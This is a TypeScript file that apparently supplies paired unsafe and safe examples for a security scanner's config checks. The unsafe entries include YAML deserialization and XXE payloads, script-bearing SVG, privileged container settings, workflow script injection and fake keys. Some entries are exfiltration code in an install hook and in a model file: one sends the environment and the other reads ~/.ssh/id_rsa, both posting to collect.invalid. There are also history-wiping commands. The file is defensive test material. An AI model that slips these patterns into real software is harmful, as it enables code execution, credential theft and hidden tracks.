import { type PackExamples, pair, text } from './draft'

const yaml = (note: string, source: string, file = 'config.yaml') => text(file, note, `${source}\n`)
const xml = (note: string, source: string, file = 'config.xml') => text(file, note, `${source}\n`)
const json = (note: string, value: object, file = 'config.json') =>
  text(file, note, `${JSON.stringify(value, null, 2)}\n`)
const sh = (note: string, source: string) => text('install.sh', note, `#!/bin/sh\n${source}\n`)
const beside = (example: ReturnType<typeof text>, file: string, shown: string) => ({
  ...example,
  beside: [{ file, shown: `${shown}\n` }],
})

const plain = yaml('Names, numbers and lists.', 'model: base\nlayers: [1, 2, 3]\nname: !!str base')
const workflow = (trigger: string, ...steps: string[]) =>
  [
    'name: check',
    `on: ${trigger}`,
    'jobs:',
    '  check:',
    '    runs-on: ubuntu-latest',
    '    steps:',
    ...steps.map((step) => `      - ${step}`),
  ].join('\n')
const WORKFLOW = '.github/workflows/check.yml'
const hook = (script: string) => ({
  name: 'some-package',
  version: '1.0.0',
  scripts: { [script]: 'node setup.js' },
})
const THIEF =
  "const body = JSON.stringify(process.env)\nfetch('https://collect.invalid/', { method: 'POST', body })"
const SHOWS = "console.log('installed')"
/** No key: 64 letters that begin like one, so that nobody's search for live keys finds it. */
const KEY = [
  '-----BEGIN RSA PRIVATE KEY-----',
  'MIIBOgIBAAJBAK'.padEnd(64, 'xQzR7'),
  'k9Lm'.padEnd(64, 'Vb3Xw'),
  '-----END RSA PRIVATE KEY-----',
].join('\n')
const MARKUP = '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1">'

export const config: PackExamples = {
  'config.yaml-command': pair(
    yaml(
      'An unsafe loader runs `echo harmless`.',
      "run: !!python/object/apply:os.system ['echo harmless']",
    ),
    plain,
  ),
  'config.yaml-data-object': pair(
    yaml(
      'An unsafe loader builds a plain container.',
      'args: !!python/object:argparse.Namespace\n  epochs: 3',
    ),
    plain,
  ),
  'config.yaml-object': pair(
    yaml(
      'An unsafe loader builds an object of a class of the file’s choice.',
      'model: !!python/object:my_package.Model\n  size: 3',
    ),
    plain,
  ),
  'config.yaml-gadget': pair(
    yaml(
      'A class of Java that loads code from an address.',
      '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["https://code.invalid/"]]]]',
    ),
    plain,
  ),
  'config.yaml-foreign-object': pair(
    yaml('Loading it in Ruby builds an object.', '--- !ruby/object:MyModel\nsize: 3'),
    plain,
  ),
  'config.alias-bomb': pair(
    yaml(
      'Nine lines stand for ten thousand million values.',
      `a: &a [${Array(10).fill('x').join(', ')}]\n${'abcdefghi'
        .slice(1)
        .split('')
        .map(
          (name, index) =>
            `${name}: &${name} [${Array(20).fill(`*${'abcdefghi'[index]}`).join(', ')}]`,
        )
        .join('\n')}`,
    ),
    yaml('One alias stands for one list.', 'a: &a [1, 2, 3]\nb: *a'),
  ),
  'config.trust-remote-code': pair(
    json('Whoever loads the model with these settings runs its code.', {
      model: 'some/model',
      trust_remote_code: true,
    }),
    json('The code of the model is not run.', { model: 'some/model', trust_remote_code: false }),
  ),
  'config.external-entity': pair(
    xml(
      'A reader may put a file of the machine into the text.',
      '<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY file SYSTEM "file:///etc/hostname">]>\n<a>&file;</a>',
    ),
    xml(
      'An entity that stands for a text.',
      '<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY name "base">]>\n<a>&name;</a>',
    ),
  ),
  'config.remote-stylesheet': pair(
    xml(
      'A reader may load the stylesheet.',
      '<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="https://styles.invalid/a.xsl"?>\n<a/>',
    ),
    xml('A document without a stylesheet.', '<?xml version="1.0"?>\n<a/>'),
  ),
  'config.svg-script': pair(
    xml(
      'The image runs a script when it is opened by itself.',
      `${MARKUP}<script>alert('harmless')</script></svg>`,
      'logo.svg',
    ),
    xml('An image.', `${MARKUP}<rect width="1" height="1"/></svg>`, 'logo.svg'),
  ),
  'config.script-refresh': pair(
    text(
      'page.html',
      'The page replaces itself by code.',
      '<!doctype html>\n<meta http-equiv="refresh" content="0; url=javascript:alert(\'harmless\')">\n',
    ),
    text(
      'page.html',
      'The page leads to another.',
      '<!doctype html>\n<meta http-equiv="refresh" content="0; url=index.html">\n',
    ),
  ),
  'config.container-privileged': pair(
    yaml(
      'The container may do everything on its host.',
      'services:\n  model:\n    image: model\n    privileged: true',
      'docker-compose.yml',
    ),
    yaml(
      'The container has no more rights than others.',
      'services:\n  model:\n    image: model',
      'docker-compose.yml',
    ),
  ),
  'config.container-host-root': pair(
    yaml(
      'The container can write to every folder of its host.',
      'services:\n  model:\n    image: model\n    volumes:\n      - /:/host',
      'docker-compose.yml',
    ),
    yaml(
      'The container has one folder, and the root for reading only.',
      'services:\n  model:\n    image: model\n    volumes:\n      - ./data:/data\n      - /:/host:ro',
      'docker-compose.yml',
    ),
  ),
  'config.docker-socket': pair(
    yaml(
      'The container can start any other.',
      'services:\n  model:\n    image: model\n    volumes:\n      - /var/run/docker.sock:/var/run/docker.sock',
      'docker-compose.yml',
    ),
    yaml(
      'The container sees a folder of its own.',
      'services:\n  model:\n    image: model\n    volumes:\n      - ./weights:/weights',
      'docker-compose.yml',
    ),
  ),
  'config.add-without-tls': pair(
    text(
      'Dockerfile',
      'Whoever is on the way can change the file.',
      'FROM debian:13\nADD http://files.invalid/weights.bin /weights.bin\n',
    ),
    text(
      'Dockerfile',
      'A file of the folder is added.',
      'FROM debian:13\nADD weights.bin /weights.bin\n',
    ),
  ),
  'config.untrusted-checkout': pair(
    yaml(
      'The code of a stranger runs with the rights of the repository.',
      workflow(
        'pull_request_target',
        `uses: actions/checkout@v4\n        with:\n          ref: \${{ github.event.pull_request.head.sha }}`,
        'run: npm test',
      ),
      WORKFLOW,
    ),
    yaml(
      'The code of a stranger runs with no rights.',
      workflow('pull_request', 'uses: actions/checkout@v4', 'run: npm test'),
      WORKFLOW,
    ),
  ),
  'config.script-injection': pair(
    yaml(
      'The title of an issue becomes a part of the script.',
      workflow('issues', `run: echo "\${{ github.event.issue.title }}"`),
      WORKFLOW,
    ),
    yaml(
      'The number of an issue is a number.',
      workflow('issues', `run: echo "\${{ github.event.issue.number }}"`),
      WORKFLOW,
    ),
  ),
  'config.private-key': pair(
    text(
      'server.pem',
      'What looks like a private key; this one is made up and opens nothing.',
      `${KEY}\n`,
    ),
    text(
      'server.md',
      'The words that a key begins with.',
      'Put the private key, which begins with BEGIN RSA PRIVATE KEY, elsewhere.\n',
    ),
  ),
  'config.secret': pair(
    text(
      'settings.env',
      'What looks like a key of a cloud; this one is made up and opens nothing.',
      `AWS_ACCESS_KEY_ID=${'AKIA'}Q3EXR7LMZ4WJ2VTP\n`,
    ),
    text(
      'settings.env',
      'The key comes from elsewhere.',
      `AWS_ACCESS_KEY_ID=\${KEY_FROM_THE_VAULT}\n`,
    ),
  ),
  'config.password': pair(
    yaml(
      'What looks like a password.',
      'database:\n  host: db.invalid\n  password: "t7#Kq9!vLm2x"',
    ),
    yaml(
      'The password comes from elsewhere.',
      `database:\n  host: db.invalid\n  password: \${DATABASE_PASSWORD}`,
    ),
  ),
  'config.joined-malicious': pair(
    beside(
      json(
        'Installing the package starts setup.js, which sends the environment away.',
        hook('postinstall'),
        'package.json',
      ),
      'setup.js',
      THIEF,
    ),
    beside(
      json(
        'Installing the package starts setup.js, which prints a line.',
        hook('postinstall'),
        'package.json',
      ),
      'setup.js',
      SHOWS,
    ),
  ),
  'config.joined-suspicious': pair(
    beside(
      json(
        'Installing the package starts setup.js, which has a finding of medium severity.',
        hook('postinstall'),
        'package.json',
      ),
      'setup.js',
      "const fs = require('fs')\nfs.writeFileSync('../../../../etc/model.conf', 'harmless')",
    ),
    beside(
      json('Nothing starts setup.js by itself.', hook('setup'), 'package.json'),
      'setup.js',
      "const fs = require('fs')\nfs.writeFileSync('../../../../etc/model.conf', 'harmless')",
    ),
  ),
  'config.joined-remote-code': pair(
    beside(
      json('Loading the model with trust_remote_code runs modeling_custom.py.', {
        model_type: 'custom',
        auto_map: { AutoModel: 'modeling_custom.CustomModel' },
      }),
      'modeling_custom.py',
      "import os, requests\n\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://collect.invalid', data=key)\n\nclass CustomModel:\n    pass",
    ),
    beside(
      json('The same, and the module only computes.', {
        model_type: 'custom',
        auto_map: { AutoModel: 'modeling_custom.CustomModel' },
      }),
      'modeling_custom.py',
      'class CustomModel:\n    pass',
    ),
  ),
  'config.known-installer': pair(
    sh(
      'The installer of a tool that many know.',
      'curl -LsSf https://astral.sh/uv/install.sh | sh',
    ),
    sh('The tool comes from a package registry.', 'pip install uv'),
  ),
  'config.cover-tracks': pair(
    sh('The record of what was typed is deleted.', 'history -c\nrm -f ~/.bash_history'),
    sh('A file of the build is deleted.', 'rm -f build.log'),
  ),
}
